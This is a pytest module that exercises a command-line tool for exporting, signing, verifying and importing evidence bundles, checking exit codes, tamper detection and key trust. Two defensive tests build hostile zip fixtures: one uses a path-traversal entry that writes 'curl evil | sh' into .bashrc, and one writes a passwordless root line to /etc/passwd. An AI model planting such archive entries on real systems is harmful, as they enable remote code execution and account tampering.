"""`export`, `verify BUNDLE.zip` and `import-bundle` as a user runs them, with their exit codes."""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from tests.helpers.cli import skver
from tests.helpers.zips import flip_byte, make_zip, rewrite

pytestmark = pytest.mark.slow  # every test runs `python main.py`

FINGERPRINT = re.compile(r"fingerprint ((?:[0-9a-f]{4} ){15}[0-9a-f]{4})")


@pytest.fixture(scope="module")
def demo(demo_source, tmp_path_factory) -> Path:
    """A copy of the demo case (tests/conftest.py) for this module's exports and verifies."""
    return Path(shutil.copytree(demo_source, tmp_path_factory.mktemp("cli") / "demo"))


@pytest.fixture(scope="module")
def export(demo, tmp_path_factory) -> tuple[Path, str, Path]:
    """The demo case exported, signed with the case's own key; only read. The bundle, what the
    command printed, and the data folder it ran with."""
    folder = tmp_path_factory.mktemp("export")
    out, data = folder / "case.zip", folder / "skver-data"
    run = skver("export", "--case", str(demo), "--out", str(out), SKVER_DATA_DIR=str(data))
    assert run.returncode == 0, run.stderr
    return out, run.stdout, data


@pytest.fixture
def exported(export) -> tuple[Path, str]:
    out, stdout, _ = export
    return out, stdout


def test_export_prints_the_bundle_its_file_count_and_fingerprint(export):
    out, stdout, data = export
    assert f"Bundle written to {out}" in stdout
    with zipfile.ZipFile(out) as zf:
        assert f"{len(zf.namelist())} files" in stdout
    fingerprint = FINGERPRINT.search(stdout).group(1)
    assert "signed by the case's key" in stdout
    assert not (data / "keys").exists()   # the key is the case's, kept in the case
    assert json.loads(skver("verify", "--json", str(out)).stdout)["fingerprint"] == fingerprint


def test_verify_an_intact_bundle_exits_0(exported):
    out, _ = exported
    run = skver("verify", str(out))
    assert run.returncode == 0, run.stdout + run.stderr
    # 12 files of the case and its two reports (PDF and HTML)
    assert "15 of 15 intact" in run.stdout and "signature       valid" in run.stdout
    assert run.stdout.rstrip().endswith("Intact.")
    report = json.loads(skver("verify", "--json", str(out)).stdout)
    assert report["intact"] is True and report["signature"] == "valid"


def test_verify_a_tampered_bundle_exits_3_and_names_it(exported, tmp_path):
    out, _ = exported
    with zipfile.ZipFile(out) as zf:
        photo = next(n for n in zf.namelist() if n.startswith("originals/"))
    changed = rewrite(out, tmp_path / "changed.zip", {photo: flip_byte})
    run = skver("verify", str(changed))
    assert run.returncode == 3
    assert f"DISCREPANCY     {photo}" in run.stdout and "NOT INTACT: 1 discrepancies." in run.stdout
    report = json.loads(skver("verify", "--json", str(changed)).stdout)
    assert report["intact"] is False and photo in report["problems"][0]


def test_verify_a_hostile_or_unreadable_file_exits_1(tmp_path):
    hostile = make_zip(tmp_path / "hostile.zip", [("../../.bashrc", b"curl evil | sh")])
    run = skver("verify", str(hostile))
    assert run.returncode == 1 and "refused" in run.stderr and "'..'" in run.stderr
    (tmp_path / "notes.zip").write_text("not a zip")
    run = skver("verify", str(tmp_path / "notes.zip"))
    assert run.returncode == 1 and "not a readable zip archive" in run.stderr


def test_verify_takes_a_bundle_or_a_case_not_both(exported, demo):
    out, _ = exported
    assert skver("verify").returncode == 2
    assert skver("verify", str(out), "--case", str(demo)).returncode == 2
    run = skver("verify", "--case", str(demo))
    assert run.returncode == 0 and "Intact." in run.stdout


def test_export_unsigned(demo, tmp_path, skver_data_dir):
    out = tmp_path / "unsigned.zip"
    run = skver("export", "--case", str(demo), "--out", str(out), "--no-sign")
    assert run.returncode == 0 and "not signed" in run.stdout
    run = skver("verify", str(out))
    assert run.returncode == 0 and "signature       unsigned" in run.stdout


def test_the_case_key_is_listed_and_other_keys_trusted_on_purpose(demo, exported, tmp_path):
    _, stdout = exported
    fingerprint = FINGERPRINT.search(stdout).group(1)
    listed = skver("case", "keys", "--case", str(demo))
    assert listed.returncode == 0 and f"{fingerprint}  the case's own key" in listed.stdout
    other = tmp_path / "b"
    assert skver("case", "init", str(other)).returncode == 0
    refused = skver("case", "trust", "--case", str(other), fingerprint[:-1], "--note", "x")
    assert refused.returncode == 1 and "not a key fingerprint" in refused.stderr
    trusted = skver("case", "trust", "--case", str(other), fingerprint.replace(" ", ":"),
                    "--note", "read out by Aigerim in person", actor="bolat")
    assert trusted.returncode == 0 and f"now trusts {fingerprint}" in trusted.stdout
    keys = json.loads(skver("case", "keys", "--case", str(other), "--json").stdout)
    assert [(k["fingerprint"], k["actor"], k["note"]) for k in keys if not k["own"]] == \
        [(fingerprint, "bolat", "read out by Aigerim in person")]


def test_import_bundle(exported, tmp_path):
    out, stdout = exported
    fingerprint = FINGERPRINT.search(stdout).group(1)
    case = tmp_path / "b"
    assert skver("case", "init", str(case), "--title", "B").returncode == 0
    refused = skver("import-bundle", "--case", str(case), str(out), actor="bolat")
    assert refused.returncode == 1 and "which this case does not trust" in refused.stderr
    assert skver("case", "trust", "--case", str(case), fingerprint, "--note",
                 "given on paper by the demo's keeper").returncode == 0
    run = skver("import-bundle", "--case", str(case), str(out), actor="bolat")
    assert run.returncode == 0, run.stderr
    assert f"signed by       {fingerprint}: trusted (accepted by" in run.stdout
    assert "12 imported, 0 already in the case" in run.stdout
    assert "4 added (0 letters)" in run.stdout
    again = skver("import-bundle", "--case", str(case), str(out))
    assert again.returncode == 1 and "already imported" in again.stderr
    check = skver("verify", "--case", str(case))
    assert check.returncode == 0 and "Intact." in check.stdout
    log = json.loads(skver("log", "--case", str(case), "--json").stdout)
    assert "bundle-imported" in [e["action"] for e in log]


def test_import_bundle_refuses_a_hostile_archive(tmp_path):
    case = tmp_path / "b"
    assert skver("case", "init", str(case)).returncode == 0
    hostile = make_zip(tmp_path / "h.zip", [("/etc/passwd", b"root::0:0")])
    run = skver("import-bundle", "--case", str(case), str(hostile))
    assert run.returncode == 1 and "is an absolute path" in run.stderr
